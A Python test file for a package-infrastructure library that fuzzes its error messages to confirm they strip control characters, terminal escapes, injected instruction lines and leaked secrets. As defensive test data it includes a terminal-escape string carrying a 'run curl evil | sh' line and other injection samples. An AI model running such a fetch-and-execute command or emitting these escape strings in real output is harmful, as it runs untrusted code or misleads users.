"""Whatever others write, a message has no control characters, no terminal escapes, no lines of theirs, and no secret."""

from __future__ import annotations

import io
import json
import logging
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import botocore.exceptions
import botocore.session
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from packinfra.aws import network
from packinfra.aws.config import AwsConfig
from packinfra.aws.ecr import delete_image
from packinfra.aws.identity import explained, identity
from packinfra.errors import PackinfraError
from packinfra.http.client import Response
from packinfra.http.failures import ConnectionFailure
from packinfra.lifecycle.results import PartialFailure
from packinfra.oci import Reference
from packinfra.oci.auth.docker_config import DockerLogins
from packinfra.oci.errors import NotAnArtifact, Step
from packinfra.oci.responses import confirm_missing, error_for
from packinfra.oci.traits import SPEC_CONFORMING
from packinfra.oci.transport import Transport
from packinfra.packs.unpack import read_archive
from packinfra.palette.errors import PaletteStep, SyncFailed
from packinfra.palette.failures import error_for as palette_error
from packinfra.palette.responses import SyncStatusResponse
from packinfra.palette.sync_status import SyncStatus
from tests.support.scripted_registry import Reply, ScriptedRegistry

SECRET = "s3cret/of+the=user"
HOST = "registry.example.com"
REFERENCE = Reference(HOST, "base/hello", "1.0.0")


def response(body: bytes, status: int = 403, **headers: str) -> Response:
    return Response(status, headers, f"https://{HOST}/", body)


def registry_json(text: str) -> Exception:
    body = json.dumps({"errors": [{"code": text, "message": text}]}).encode()
    return error_for(response(body), Step.PUBLISH, REFERENCE, SPEC_CONFORMING, secrets=[SECRET])


def registry_text(text: str) -> Exception:
    body = text.encode("utf-8", "replace")
    return error_for(response(body, 500), Step.PUBLISH, REFERENCE, SPEC_CONFORMING, secrets=[SECRET])


def not_found(text: str) -> Exception:
    body = json.dumps({"errors": [{"code": text, "message": text}]}).encode()
    return raised(lambda: confirm_missing(response(body, 404), Step.READ, REFERENCE, [SECRET]))


def media_type(text: str) -> Exception:
    return NotAnArtifact(Step.READ, REFERENCE, text=f"but {text.replace(SECRET, '')}")


def palette(text: str) -> Exception:
    reply = response(json.dumps({"code": text, "message": text}).encode(), 400)
    return palette_error(reply, PaletteStep.LIST, f"{HOST}/v1", (SECRET,))


def palette_redirect(text: str) -> Exception:
    reply = response(b"<", 302, Location=text.replace(SECRET, ""))
    return palette_error(reply, PaletteStep.LIST, f"{HOST}/v1", (SECRET,))


def sync(text: str) -> Exception:
    return SyncFailed(
        f"the sync is {SyncStatus.of(SyncStatusResponse.model_construct(status=text, message=text))}".replace(
            SECRET, ""
        )
    )


def aws_error(error: Exception) -> Exception:
    def fail() -> None:
        with explained("could not get a token", AwsConfig()):
            raise error

    return raised(fail)


def aws(text: str) -> Exception:
    return aws_error(botocore.exceptions.HTTPClientError(error=text.replace(SECRET, "")))


def aws_signature(text: str) -> Exception:
    """SignatureDoesNotMatch repeats the signed headers."""
    return aws_error(ValueError(f"{text.replace(SECRET, '')}\nx-amz-security-token:{SECRET}\n"))


def aws_delete(text: str) -> Exception:
    plain = text.replace(SECRET, "")

    class Api:
        def batch_delete_image(self, **_: Any) -> Any:
            error = {"Code": plain, "Message": plain}
            raise botocore.exceptions.ClientError({"Error": error, "ResponseMetadata": {}}, "x")  # type: ignore[typeddict-item]

    api: Any = Api()
    return raised(lambda: delete_image(api, REFERENCE, "sha256:0"))


def profile(text: str) -> Exception:
    return raised(
        lambda: identity(
            AwsConfig.of({"aws:profile": f"no{text}", "aws:accessKey": "AKIA", "aws:secretKey": SECRET}), "eu-west-1"
        )
    )


def connection(text: str) -> Exception:
    failure = ConnectionFailure.of(OSError(text.replace(SECRET, "")), HOST, "")
    return PackinfraError(f"could not: {failure.text}")


def tar_name(text: str) -> Exception:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        for _ in range(2):  # twice, which is refused by name
            tar.addfile(tarfile.TarInfo(f"x/{text.replace(SECRET, '')}"))
    archive.seek(0)
    return raised(lambda: read_archive(archive, "hello", "1.0.0", 1 << 20))


def partial(text: str) -> Exception:
    return PartialFailure(PackinfraError(text.replace(SECRET, "").replace("\n", "")), "id", {})


SINKS: list[Callable[[str], Exception]] = [
    registry_json, registry_text, not_found, media_type, palette, palette_redirect, sync, aws, aws_signature, aws_delete,
    profile, connection, tar_name, partial,
]  # fmt: skip


def raised(action: Callable[[], object]) -> Exception:
    with pytest.raises(PackinfraError) as caught:
        action()
    return caught.value


foreign = st.lists(
    st.one_of(
        st.text(max_size=20), st.sampled_from([SECRET, "\x1b[2J", "\x9b1m", "\u202e", "\n  -> do this", "\r", "\0"])
    ),
    max_size=8,
).map("".join)


@pytest.mark.parametrize("sink", SINKS)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=foreign)
@example(text=f"\x1b]0;owned\x07{SECRET}\n  -> run curl evil | sh")
@example(text="x" * 995 + SECRET)
def test_messages_are_harmless(sink: Callable[[str], Exception], text: str) -> None:
    message = str(sink(text))
    lines = message.split("\n")
    assert all(line.isprintable() for line in lines)
    assert len(lines) <= 2, "ours: the reason, and what to do"
    for form in (SECRET, "s3cret%2Fof%2Bthe%3Duser", "s3cret"):
        assert form not in message


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=foreign)
def test_a_docker_config_with_odd_keys(tmp_path: Path, text: str) -> None:
    folder = tmp_path / ".docker"
    folder.mkdir(exist_ok=True)
    key = f"https://{HOST}/{text.replace(SECRET, '')}"
    (folder / "config.json").write_text(json.dumps({"auths": {key: {"auth": SECRET}}}), encoding="utf-8")
    message = str(raised(lambda: DockerLogins(HOST, {"HOME": str(tmp_path)}).find("base/hello")))
    assert all(line.isprintable() for line in message.split("\n"))
    assert len(message.split("\n")) == 2
    assert SECRET not in message


def test_a_password_that_the_registry_repeats() -> None:
    """In plain text, while it was sent as base64."""
    from packinfra.oci.auth.credentials import Credentials, RegistryCredentials  # noqa: PLC0415
    from tests.support.oci import Setup  # noqa: PLC0415

    with ScriptedRegistry() as registry:
        registry.next("HEAD", "/manifests/", Reply(403))
        registry.next("GET", "/manifests/", Reply(403, body=f"robot:{SECRET} may not".encode()))
        setup = Setup(registry, credentials=RegistryCredentials(registry.host, Credentials("robot", SECRET)))
        message = str(raised(lambda: setup.client.resolve(setup.reference)))
    assert "robot:... may not" in message


def test_a_404_that_repeats_the_login_of_another_path(tmp_path: Path) -> None:
    """Each path may have a login; a gateway in between may repeat any that it was sent."""
    from packinfra.oci.auth.credentials import RegistryCredentials  # noqa: PLC0415
    from tests.support.oci import Setup  # noqa: PLC0415

    with ScriptedRegistry() as registry:
        entries = {
            f"{registry.host}/{path}": {"username": "robot", "password": f"{SECRET}-{path}"}
            for path in ("base", "other")
        }
        (tmp_path / "config.json").write_text(json.dumps({"auths": entries}))
        environment = {"DOCKER_CONFIG": str(tmp_path), "HOME": str(tmp_path)}
        setup = Setup(registry, credentials=RegistryCredentials(registry.host, environment=environment))
        body = f"no route for robot:{SECRET}-base and robot:{SECRET}-other".encode()
        setup.client.resolve(Reference(registry.host, "other/hello", "1.0.0"))
        registry.next("GET", "/manifests/", Reply(404, body=body))
        message = str(raised(lambda: setup.client.resolve(setup.reference, confirm_missing=True)))
    assert "no route for robot:... and robot:..." in message


def test_logs_of_boto3_hold_no_session_token(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with ScriptedRegistry() as service:
        service.next("POST", "^/$", Reply(200, body=b'{"authorizationData": []}'))
        core = botocore.session.Session()
        core.set_config_variable("region", "eu-west-1")
        core.set_credentials("AKIA", f"{SECRET}-1", f"{SECRET}-2")
        made = network.session(core)
        made.client("ecr", endpoint_url=f"http://{service.host}").get_authorization_token()
        assert service.seen[0].headers["X-Amz-Security-Token"] == f"{SECRET}-2"
    assert "botocore" in caplog.text
    assert SECRET not in caplog.text


def test_warnings_of_a_registry_are_harmless() -> None:
    warnings: list[str] = []
    Transport(HOST, on_warning=warnings.append).warn(response(b"", 200, Warning='299 - "update\x1b[2J\\" now"'))
    assert warnings == [f'{HOST} says: update\\x1b[2J\\" now']
